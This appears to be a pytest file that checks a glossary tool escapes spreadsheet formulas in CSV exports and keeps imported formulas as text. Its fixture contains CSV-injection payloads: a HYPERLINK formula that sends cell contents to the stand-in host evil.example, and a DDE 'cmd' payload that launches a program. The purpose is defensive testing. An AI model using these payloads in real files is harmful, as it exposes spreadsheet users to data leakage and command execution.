"""CSV exports are safe to open in a spreadsheet: a cell that would run as a formula is
escaped with a leading apostrophe (OWASP's advice), the escape is undone on import, and
an imported cell that looks like a formula is kept as text with a note."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from onoma.curate.exchange import export_glossary, import_glossary
from onoma.curate.exchange.tables import FORMULA_START, escape_formula, unescape_formula
from onoma.glossary.model import Entry, Glossary

HOSTILE = Glossary(
    [
        Entry(
            "link",
            "other",
            {"en": '=HYPERLINK("http://evil.example/?"&A1,"Shushi")', "ru": "Шуши"},
            {"en": ("=cmd|' /C calc'!A0", "@SUM(1+1)")},
            note="+1 Shusha",
        ),
        Entry("plain", "place", {"en": "Yerevan", "ru": "'=not a formula"}),
    ]
)


@pytest.mark.parametrize("fmt", ["csv", "google-csv"])
def test_no_exported_cell_starts_a_formula(fmt: str):
    text = export_glossary(HOSTILE, fmt).text
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]


@pytest.mark.parametrize("fmt", ["csv", "google-csv"])
def test_escaped_cells_come_back_exactly(tmp_path: Path, fmt: str):
    path = tmp_path / "out.csv"
    path.write_text(export_glossary(HOSTILE, fmt).text, encoding="utf-8")
    imported = import_glossary(path, fmt)
    names = {e.names["ru"]: e for e in imported.entries}
    assert names["Шуши"].names["en"] == HOSTILE.entries[0].names["en"]
    assert names["'=not a formula"].names["en"] == "Yerevan"
    if fmt == "csv":
        assert names["Шуши"].variants["en"] == HOSTILE.entries[0].variants["en"]
        assert names["Шуши"].note == "+1 Shusha"
    assert not [n for n in imported.notes if "formula" in n]


def test_a_formula_from_elsewhere_is_kept_as_text_with_a_note(tmp_path: Path):
    path = tmp_path / "terms.csv"
    path.write_text('en,ru\n"=HYPERLINK(""http://x"")",Шуши\n', encoding="utf-8")
    imported = import_glossary(path, "google-csv")
    assert imported.entries[0].names["en"] == '=HYPERLINK("http://x")'
    assert any(
        f"{path}:2:" in n and "would run as a formula in a spreadsheet" in n for n in imported.notes
    )


@given(st.text(alphabet="'=+-@\tab", max_size=8))
def test_escaping_round_trips_and_never_leaves_a_formula(cell: str):
    escaped = escape_formula(cell)
    assert unescape_formula(escaped) == cell
    assert not escaped.startswith(FORMULA_START)
